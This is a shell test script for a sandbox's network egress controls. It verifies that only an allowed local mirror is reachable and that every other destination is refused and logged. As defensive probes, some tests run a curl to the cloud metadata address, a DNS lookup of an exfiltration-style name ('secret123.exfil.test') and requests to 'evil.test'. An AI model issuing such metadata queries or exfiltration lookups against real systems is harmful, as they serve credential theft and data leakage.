#!/usr/bin/env bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# --net allow end to end (issue 5): a local package mirror on 127.0.0.3 is the
# only allowed destination (mapped with --resolve); the sandbox reaches it
# through the HTTP proxy, SOCKS5 and transparent capture; everything else is
# refused fast and logged. Only loopback and the sandbox's own namespace are
# ever used.
# shellcheck source=tests/lib/tap.sh
. "$(dirname "$0")/../lib/tap.sh"

PY=/usr/bin/python3
MIRROR_ADDR=127.0.0.3
MIRROR_DIR=$(mktemp -d "${TMPDIR:-/tmp}/moat-mirror.XXXXXX")
echo "package-bytes-$$" >"$MIRROR_DIR/pkg.txt"
MIRROR_PID=
MIRROR_PORT=

start_mirror() {
	[ -x "$PY" ] || return 1
	"$PY" -u -m http.server 0 --bind "$MIRROR_ADDR" --directory "$MIRROR_DIR" \
		>"$MIRROR_DIR/.log" 2>&1 &
	MIRROR_PID=$!
	for _ in $(seq 50); do
		MIRROR_PORT=$(sed -n 's/.* port \([0-9]*\).*/\1/p' "$MIRROR_DIR/.log" | head -1)
		[ -n "$MIRROR_PORT" ] && return 0
		sleep 0.1
	done
	return 1
}
cleanup() {
	[ -n "$MIRROR_PID" ] && kill "$MIRROR_PID" 2>/dev/null
	rm -rf "$MIRROR_DIR" "$T_OUT"
}
trap cleanup EXIT
start_mirror || MIRROR_PORT=

need() {
	[ -n "$MIRROR_PORT" ] || skip "cannot start the local mirror ($PY -m http.server)"
	command -v curl >/dev/null || skip "curl not installed"
}

# mrun LOG ARGS... -- CMD: a sandbox whose only destination is the mirror.
mrun() {
	local log=$1
	shift
	rm -f "$log"
	"$MOAT" run --quiet --log "$log" --allow-host "mirror.test:$MIRROR_PORT" \
		--resolve "mirror.test=$MIRROR_ADDR" "$@"
}

t_http_proxy() {
	need
	local out
	out=$(mrun "$T_OUT/log.json" -- curl -sS -m5 "http://mirror.test:$MIRROR_PORT/pkg.txt")
	assert_eq "package-bytes-$$" "$out"
	assert_contains "$(cat "$T_OUT/log.json")" '"type":"net","proto":"http","host":"mirror.test"'
	assert_contains "$(cat "$T_OUT/log.json")" '"action":"allow"'
	# positive control: the mirror answers on the host
	assert_eq "package-bytes-$$" "$(curl -sS -m5 --noproxy '*' "http://$MIRROR_ADDR:$MIRROR_PORT/pkg.txt")"
}

t_socks_and_transparent() {
	need
	local out
	out=$(mrun "$T_OUT/log.json" -- sh -c "
		curl -sS -m5 --socks5-hostname 127.0.0.1:1080 http://mirror.test:$MIRROR_PORT/pkg.txt
		env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sS -m5 http://mirror.test:$MIRROR_PORT/pkg.txt")
	assert_eq "package-bytes-$$
package-bytes-$$" "$out"
	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"socks","host":"mirror.test"'
	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"transparent","host":"mirror.test"'
}

t_python_socket_to_allowed_name() {
	need
	local out
	out=$(mrun "$T_OUT/log.json" -- "$PY" -c "
import socket
s = socket.create_connection(('mirror.test', $MIRROR_PORT), 3)
s.sendall(b'GET /pkg.txt HTTP/1.0\r\nHost: mirror.test\r\n\r\n')
d = b''
while True:
    b = s.recv(4096)
    if not b: break
    d += b
print(d.split(b'\r\n\r\n', 1)[1].decode().strip())")
	assert_eq "package-bytes-$$" "$out"
}

t_other_hosts_refused_and_logged() {
	need
	local out
	out=$(mrun "$T_OUT/log.json" -- sh -c "
		curl -sS -m5 http://other.test:$MIRROR_PORT/ ; echo
		curl -sS -m5 http://$MIRROR_ADDR:$MIRROR_PORT/pkg.txt ; echo
		curl -sS -m5 --noproxy "" -x http://127.0.0.1:3128 http://localhost:$MIRROR_PORT/pkg.txt ; echo
		curl -sS -m5 http://169.254.169.254/latest/meta-data/ ; echo
		curl -sS -m5 -p http://mirror.test:22/ 2>&1 | head -c 200; echo")
	assert_contains "$out" "refused GET http://other.test:$MIRROR_PORT (not-allowed); to allow it: --allow-host other.test:$MIRROR_PORT"
	assert_contains "$out" "refused GET http://$MIRROR_ADDR:$MIRROR_PORT (loopback)"
	assert_contains "$out" "(local-name)"
	assert_contains "$out" "(metadata)"
	assert_contains "$out" "403"
	assert_not_contains "$out" "package-bytes"
	local log
	log=$(cat "$T_OUT/log.json")
	assert_contains "$log" '"host":"other.test","raw":"other.test:'
	assert_contains "$log" '"action":"deny","rule":null,"reason":"not-allowed"'
	assert_contains "$log" '"reason":"metadata"'
	assert_contains "$log" '"type":"alert","cause":"net_denied"'
}

t_dns_refusal_recorded() {
	need
	local rc=0
	mrun "$T_OUT/log.json" -- getent hosts secret123.exfil.test >/dev/null 2>&1 || rc=$?
	assert_eq 2 "$rc" "getent of a name that is not allowed"
	assert_contains "$(cat "$T_OUT/log.json")" '"type":"dns","name":"secret123.exfil.test","qtype":"A","action":"deny"'
	# an allowed name resolves to a synthetic address
	local out
	out=$(mrun "$T_OUT/log2.json" -- getent hosts mirror.test)
	assert_contains "$out" "198.18.128."
}

t_udp_dropped_and_logged() {
	need
	local out
	out=$(mrun "$T_OUT/log.json" -- bash -c 'echo x > /dev/udp/203.0.113.9/53 && echo SENT || echo REFUSED' 2>/dev/null)
	assert_eq REFUSED "$out"
	assert_contains "$(cat "$T_OUT/log.json")" '"reason":"dropped"'
	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"udp","host":null,"raw":null,"addr":"203.0.113.9","port":53'
}

t_direct_ip_refused_fast() {
	need
	local start end out
	start=$(date +%s)
	out=$(mrun "$T_OUT/log.json" -- sh -c "
		curl -sS -m10 --noproxy '*' http://203.0.113.7:$MIRROR_PORT/ 2>&1 || echo FAILED
		curl -sS -m10 --noproxy '*' -g 'http://[2001:db8::7]:$MIRROR_PORT/' 2>&1 || echo FAILED")
	end=$(date +%s)
	assert_contains "$out" FAILED
	assert_not_contains "$out" "package-bytes"
	[ $((end - start)) -lt 5 ] || fail "direct connects took $((end - start)) s (should fail fast)"
	assert_contains "$(cat "$T_OUT/log.json")" '"proto":"transparent","host":null,"raw":"203.0.113.7:'
}

t_net_none_has_no_route() {
	need
	local out
	out=$("$MOAT" run --quiet -- sh -c "curl -sS -m5 --noproxy '*' http://$MIRROR_ADDR:$MIRROR_PORT/pkg.txt 2>&1 || echo FAILED")
	assert_contains "$out" FAILED
	assert_not_contains "$out" "package-bytes"
}

# start_tls_mirror: an HTTPS server for mirror.test on $MIRROR_ADDR (its own
# self-signed certificate in $tls); sets tls, port, pid.
start_tls_mirror() {
	command -v openssl >/dev/null || skip "openssl not installed"
	tls="$T_OUT/tls"
	mkdir -p "$tls"
	openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=mirror.test \
		-addext subjectAltName=DNS:mirror.test -keyout "$tls/key.pem" \
		-out "$tls/cert.pem" >/dev/null 2>&1 || fail "openssl req"
	chmod -R a+rX "$tls"
	"$PY" -u -c "
import http.server, ssl, sys
h = http.server.HTTPServer(('$MIRROR_ADDR', 0), http.server.SimpleHTTPRequestHandler)
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
c.load_cert_chain('$tls/cert.pem', '$tls/key.pem')
h.socket = c.wrap_socket(h.socket, server_side=True)
print(h.server_address[1], flush=True)
h.serve_forever()" >"$tls/port" 2>/dev/null &
	pid=$!
	port=
	for _ in $(seq 50); do
		port=$(head -1 "$tls/port" 2>/dev/null || true)
		[ -n "$port" ] && break
		sleep 0.1
	done
	[ -n "$port" ] || { kill "$pid"; fail "https server did not start"; }
}

t_https_through_connect_and_transparent() {
	need
	local tls port pid out
	start_tls_mirror
	rm -f "$T_OUT/log.json"
	out=$(cd "$MIRROR_DIR" && "$MOAT" run --quiet --log "$T_OUT/log.json" --ro "$tls" \
		--allow-host "mirror.test:$port" --resolve "mirror.test=$MIRROR_ADDR" -- sh -c "
		curl -sS -m5 --cacert $tls/cert.pem https://mirror.test:$port/ >/dev/null && echo CONNECT-OK
		curl -sS -m5 --noproxy '*' --cacert $tls/cert.pem https://mirror.test:$port/ >/dev/null && echo TRANSPARENT-OK")
	kill "$pid" 2>/dev/null || true
	assert_contains "$out" CONNECT-OK
	assert_contains "$out" TRANSPARENT-OK
	local log
	log=$(cat "$T_OUT/log.json")
	assert_contains "$log" '"proto":"connect","host":"mirror.test"'
	assert_contains "$log" '"sni":"mirror.test","action":"allow"'
}

# A connection allowed by name must present that name in its SNI, on every
# path (CONNECT, SOCKS5, transparent); refused before the upstream is dialled,
# logged and alerted. The same client with the right SNI is the positive
# control.
t_tls_name_rules_need_their_sni() {
	need
	local tls port pid out
	start_tls_mirror
	rm -f "$T_OUT/log.json"
	out=$(cd "$MIRROR_DIR" && "$MOAT" run --quiet --log "$T_OUT/log.json" --ro "$tls" \
		--allow-host "mirror.test:$port" --resolve "mirror.test=$MIRROR_ADDR" -- "$PY" -c "
import socket, ssl
port = $port
def connect():
    s = socket.create_connection(('127.0.0.1', 3128), 5)
    s.sendall(b'CONNECT mirror.test:%d HTTP/1.1\r\nHost: mirror.test:%d\r\n\r\n' % (port, port))
    r = b''
    while not r.endswith(b'\r\n\r\n'):
        b = s.recv(1)
        if not b: raise OSError('closed')
        r += b
    return s
def socks():
    s = socket.create_connection(('127.0.0.1', 1080), 5)
    s.sendall(b'\x05\x01\x00'); s.recv(2)
    s.sendall(b'\x05\x01\x00\x03\x0bmirror.test' + port.to_bytes(2, 'big'))
    s.recv(10)
    return s
def transparent():
    return socket.create_connection(('mirror.test', port), 5)
for name, dial in (('connect', connect), ('socks', socks), ('transparent', transparent)):
    for sni in (None, 'other.test', 'mirror.test'):
        c = ssl.create_default_context(cafile='$tls/cert.pem')
        c.check_hostname = False
        try:
            t = c.wrap_socket(dial(), server_hostname=sni)
            t.sendall(b'GET /pkg.txt HTTP/1.0\r\nHost: mirror.test\r\n\r\n')
            d = b''
            while True:
                b = t.recv(4096)
                if not b: break
                d += b
            print(name, sni, 'OK' if d.startswith(b'HTTP/1.') else 'EMPTY')
        except (OSError, ssl.SSLError):
            print(name, sni, 'REFUSED')
" 2>&1)
	kill "$pid" 2>/dev/null || true
	local p
	for p in connect socks transparent; do
		assert_contains "$out" "$p None REFUSED"
		assert_contains "$out" "$p other.test REFUSED"
		assert_contains "$out" "$p mirror.test OK"
	done
	"$PY" - "$T_OUT/log.json" <<'EOF' || fail "log: $(cat "$T_OUT/log.json")"
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
net = [e for e in ev if e.get("type") == "net"]
for proto in ("connect", "socks", "transparent"):
    for reason in ("no-sni", "sni-mismatch"):
        assert any(e.get("proto") == proto and e.get("action") == "deny" and e.get("reason") == reason
                   for e in net), (proto, reason)
alerts = [e for e in ev if e.get("type") == "alert" and e.get("cause") == "net_denied"]
assert len(alerts) >= 6, len(alerts)
EOF
}

run_test http_proxy t_http_proxy
run_test https_through_connect_and_transparent t_https_through_connect_and_transparent
run_test tls_name_rules_need_their_sni t_tls_name_rules_need_their_sni
run_test socks_and_transparent t_socks_and_transparent
run_test python_socket_to_allowed_name t_python_socket_to_allowed_name
run_test other_hosts_refused_and_logged t_other_hosts_refused_and_logged
t_summary_top_denied() {
	local err
	err=$("$MOAT" run --allow-host allowed.test --resolve allowed.test=127.0.0.9 \
		--json-status "$T_OUT/st.json" -- sh -c '
		for i in 1 2 3; do curl -s -m 3 -o /dev/null http://evil.test/$i; done
		curl -s -m 3 -o /dev/null https://other.test/; true' 2>&1 >/dev/null)
	assert_contains "$err" "moat: network: 0 allowed, 4 denied"
	assert_contains "$err" "denied 3x evil.test:80"
	assert_contains "$err" "to allow: --allow-host evil.test:80"
	assert_contains "$err" "denied 1x other.test:443"
	python3 -c '
import json, sys
s = json.load(open(sys.argv[1]))
assert s["net_denied"] == 4 and s["net_allowed"] == 0, s
assert s["net_top_denied"][0].startswith("3 evil.test:80\t--allow-host evil.test:80"), s
' "$T_OUT/st.json" || fail "status record: $(cat "$T_OUT/st.json")"
}

run_test summary_top_denied t_summary_top_denied
# in_hosts_ns HOSTS CMD...: CMD in a mount namespace of the test's own whose
# /etc/hosts is HOSTS (the proxy's resolver reads it); root: a private mount
# namespace, unprivileged: a user+mount namespace (nothing outside changes)
in_hosts_ns() {
	local hosts=$1
	shift
	if is_root; then
		unshare -m --propagation private sh -c 'mount --bind "$0" /etc/hosts && exec "$@"' "$hosts" "$@"
	else
		unshare -Urm sh -c 'mount --bind "$0" /etc/hosts && exec "$@"' "$hosts" "$@"
	fi
}

# A denial line says why and where (issue 18): the reason, the address the
# name resolved to when that was the reason, one port once, a suggestion for
# a refused DNS query, counts that add up (DNS included); --net none says the
# command tried the network and which flag would allow it.
t_denial_line() {
	command -v unshare >/dev/null || skip "unshare not installed"
	local err hosts="$T_OUT/hosts"
	printf '127.0.0.1 localhost\n198.51.100.7 res.test\n10.1.2.3 priv.test\n' >"$hosts"
	chmod 644 "$hosts"
	in_hosts_ns "$hosts" true 2>/dev/null || skip "no mount namespace here (unshare -m)"
	err=$(in_hosts_ns "$hosts" "$MOAT" run --allow-host res.test --allow-host priv.test \
		--json-status "$T_OUT/st.json" -- sh -c '
		for i in 1 2 3; do curl -s -m 3 -o /dev/null http://res.test/; done
		curl -s -m 3 -o /dev/null https://priv.test/
		curl -s -m 3 -o /dev/null http://1.1.1.1:443/
		getent hosts nope.test; true' 2>&1 >/dev/null)
	assert_contains "$err" "  denied 3x res.test:80 (resolved-reserved 198.51.100.7) — to allow: --resolve res.test=ADDR
"
	assert_contains "$err" "  denied 1x priv.test:443 (resolved-private 10.1.2.3) — to allow: --resolve priv.test=ADDR
"
	assert_contains "$err" "  denied 1x 1.1.1.1:443 (ip-literal) — to allow: --allow-cidr 1.1.1.1/32:443
"
	assert_not_contains "$err" ":443:443"
	assert_contains "$err" "(not-allowed) — to allow: --allow-host nope.test
"
	# 5 connections and the resolver's queries for nope.test: the totals add up
	local dns
	dns=$(printf '%s\n' "$err" | sed -n 's/.*denied \([0-9]*\)x dns nope.test .*/\1/p')
	[ -n "$dns" ] || fail "no DNS denial line: $err"
	assert_contains "$err" "moat: network: 0 allowed, $((5 + dns)) denied (connections: 0 allowed, 5 denied; dns queries: 0 answered, $dns refused)"
	python3 -c '
import json, sys
s = json.load(open(sys.argv[1]))
t = {d["destination"]: d for d in s["top_denied"]}
r = t["res.test:80"]
assert (r["reason"], r["addr"], r["host"], r["port"], r["count"]) == ("resolved-reserved", "198.51.100.7", "res.test", 80, 3), r
assert t["1.1.1.1:443"]["host"] == "" and t["1.1.1.1:443"]["addr"] == "1.1.1.1", t
assert t["dns nope.test"]["dns"] and t["dns nope.test"]["rule"] == "--allow-host nope.test", t
assert s["dns_denied"] >= 1 and s["net_denied"] == 5, s
' "$T_OUT/st.json" || fail "status record: $(cat "$T_OUT/st.json")"
	# control: without the test's hosts file the name does not resolve: the
	# policy allowed it, nothing was refused for its address (the reason
	# comes from the answer, not from the name)
	err=$("$MOAT" run --allow-host res.test -- curl -s -m 3 -o /dev/null http://res.test/ 2>&1 >/dev/null || true)
	assert_contains "$err" "moat: network: 1 allowed, 0 denied"
	assert_not_contains "$err" "resolved-reserved"
	# --net none: the attempt, its protocol, the flag (no packet leaves: the
	# namespace has only loopback)
	err=$("$MOAT" run --net none -- sh -c 'curl -s -m 3 http://192.0.2.1/; true' 2>&1 >/dev/null)
	assert_contains "$err" "moat: network: the command tried the network 1 time(s); --net none refused it"
	assert_contains "$err" "To allow a destination, add the flag shown (and no --net none):"
	assert_contains "$err" "  denied 1x 192.0.2.1:80/tcp (network-none) — to allow: --allow-cidr 192.0.2.1/32
"
}
run_test "a denial line says why and where" t_denial_line
run_test dns_refusal_recorded t_dns_refusal_recorded
run_test udp_dropped_and_logged t_udp_dropped_and_logged
run_test direct_ip_refused_fast t_direct_ip_refused_fast
run_test net_none_has_no_route t_net_none_has_no_route
t_done
